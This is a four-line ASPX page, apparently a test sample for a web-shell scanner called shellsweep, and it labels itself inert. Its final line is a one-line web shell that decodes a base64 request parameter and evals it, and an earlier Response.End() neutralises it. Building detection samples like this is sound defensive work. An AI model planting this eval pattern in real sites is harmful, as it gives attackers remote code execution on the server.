<%@ Page Language="Jscript"%>
<%-- shellsweep test sample: inert, never functional --%>
<% Response.End(); %>
<%eval(System.Text.Encoding.GetEncoding(936).GetString(System.Convert.FromBase64String(Request.Item["z"])),"unsafe");%>
